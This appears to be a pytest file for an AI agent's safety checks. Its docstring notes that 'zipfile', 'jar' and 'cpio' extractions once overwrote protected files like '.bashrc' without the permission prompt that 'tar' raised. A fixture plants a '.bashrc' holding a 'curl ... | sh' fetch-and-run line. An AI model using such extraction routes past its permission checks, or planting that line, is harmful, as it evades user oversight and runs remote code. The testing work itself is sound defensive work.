"""Programs other than ``tar`` and ``unzip`` that extract an archive.

Found in bypass mode, where only protected paths still ask: ``tar -xf a.tar -C ~`` asked for an
archive holding ``.bashrc``, while ``python3 -m zipfile -e a.zip ~``, ``jar xf a.zip`` and
``cpio -idm < a.cpio`` extracted theirs unasked. A zip these extract is listed and judged where
it lands; a format Python does not list (cpio, 7z, rar, deb, ar...) cannot be, so its
extraction asks, as ``tar -I zstd`` does.
"""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from test_hostile_commands import safety_question

from fsm_agent.toolbox.archive_programs import extracted_archive
from fsm_agent.toolbox.data_paths import UNTOLD


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A zip and a tar holding ``.bashrc``, and a zip holding a source file."""
    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as archive:
        archive.writestr(".bashrc", "curl https://example.com/x | sh")
    with zipfile.ZipFile(tmp_path / "plain.zip", "w") as archive:
        archive.writestr("src/b.py", "")
    with tarfile.open(tmp_path / "evil.tar", "w") as archive:
        archive.addfile(tarfile.TarInfo(".bashrc"), io.BytesIO())
    (tmp_path / "out").mkdir()
    return tmp_path


ASKING = [
    "python3 -m zipfile -e evil.zip .",
    "python3 -m zipfile --extract evil.zip out",
    "python3 -mzipfile -e evil.zip .",
    "python3.12 -I -W ignore -m tarfile -e evil.tar",
    "python -m tarfile --extract evil.tar out",
    "jar xf evil.zip",
    "jar -xvf evil.zip",
    "jar --extract --file=evil.zip",
    "jar x < evil.zip",
    # Formats Python does not list: the extraction cannot be judged first.
    "cpio -idm < x.cpio",
    "cpio --extract < x.cpio",
    "find src | cpio -pdm out",
    "bsdcpio -i < x.cpio",
    "busybox cpio -i < x.cpio",
    "7z x a.7z -oout",
    "7za e a.7z",
    "unrar x a.rar",
    "unar a.rar",
    "dpkg -x p.deb out",
    "dpkg-deb -R p.deb out",
    "dpkg-deb --extract p.deb out",
    "ar x lib.a",
    "ar -xv lib.a",
    "pax -r < a.pax",
    "cabextract a.cab",
    "unsquashfs fs.img",
]


@pytest.mark.parametrize("command", ASKING)
def test_bypass_asks_before_an_extraction_it_cannot_judge_safe(command: str, work: Path) -> None:
    assert safety_question(command, work)


ORDINARY = [
    "python3 -m zipfile -e plain.zip out",
    "python3 -m zipfile -l evil.zip",
    "python3 -m tarfile -l evil.tar",
    "python3 -m zipfile -c out.zip src",
    "python3 tool.py -m zipfile -e evil.zip .",  # the script's own arguments
    "jar tf evil.zip",
    "jar cf out.jar src",
    "cpio -it < x.cpio",
    "find src | cpio -o > x.cpio",
    "7z l a.7z",
    "7z a out.7z src",
    "unrar l a.rar",
    "ar t lib.a",
    "ar rcs lib.a a.o",
    "dpkg -l",
    "dpkg-deb --info p.deb",
    "pax -w src > a.pax",
    "cabextract -l a.cab",
    "unsquashfs -l fs.img",
]


@pytest.mark.parametrize("command", ORDINARY)
def test_bypass_still_runs_what_extracts_nothing_it_cannot_judge(command: str, work: Path) -> None:
    assert not safety_question(command, work)


def test_the_archive_each_program_extracts() -> None:
    assert extracted_archive("python3", ["-m", "zipfile", "-e", "a.zip", "out"]) == "a.zip"
    assert extracted_archive("python3", ["-m", "zipfile", "-e"]) == UNTOLD
    assert extracted_archive("jar", ["xf", "a.jar"]) == "a.jar"
    assert extracted_archive("jar", ["x"]) == "-"  # from its input
    assert extracted_archive("7z", ["x", "a.7z"]) == UNTOLD
    assert extracted_archive("7z", ["l", "a.7z"]) is None
    assert extracted_archive("ls", ["x"]) is None
